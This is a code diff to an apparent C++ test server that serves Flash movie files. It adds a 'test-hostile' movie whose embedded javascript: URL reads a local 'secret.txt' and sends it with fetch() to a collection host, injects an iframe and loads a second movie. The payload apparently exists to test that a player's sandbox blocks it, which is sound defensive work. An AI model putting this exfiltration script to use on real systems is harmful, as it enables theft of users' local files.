@@ -8,6 +8,22 @@
 namespace arlo::standin {
 namespace {
 
+std::string hostileMovie(std::string_view variable) {
+    const std::string collect = "http://" + std::string(kHostileCollectHost) + "/c?d=";
+    const std::string frame = "http://" + std::string(kHostileFrameHost) + "/f.htm";
+    const std::string script =
+        "javascript:window.arloHostileRan=true;"
+        "fetch(location.href.replace(/[^/]*$/,'secret.txt')).then(r=>r.text())"
+        ".then(t=>fetch('" +
+        collect + "'+encodeURIComponent(t)),()=>fetch('" + collect +
+        "unreadable'));"
+        "document.body.appendChild(Object.assign(document.createElement('iframe'),{src:'" +
+        frame + "'}));void 0";
+    return swfMovieShowing(
+        variable,
+        {{script, "_self"}, {"http://" + std::string(kHostileMovieHost) + "/m.swf", "_level1"}});
+}
+
 // A player file for the play id in `variable` of the request. Pages fetch it across origins
 // (the Player page is a local file), so every answer allows that, except where a test asks
 // otherwise through the play id itself.
@@ -30,7 +46,7 @@ Response playerFile(const Request& request, std::string_view variable) {
         return r;
     }
     r.headers.push_back({"Content-Type", "application/x-shockwave-flash"});
-    r.body = swfMovieShowing(variable);
+    r.body = id == "test-hostile" ? hostileMovie(variable) : swfMovieShowing(variable);
     return r;
 }
 
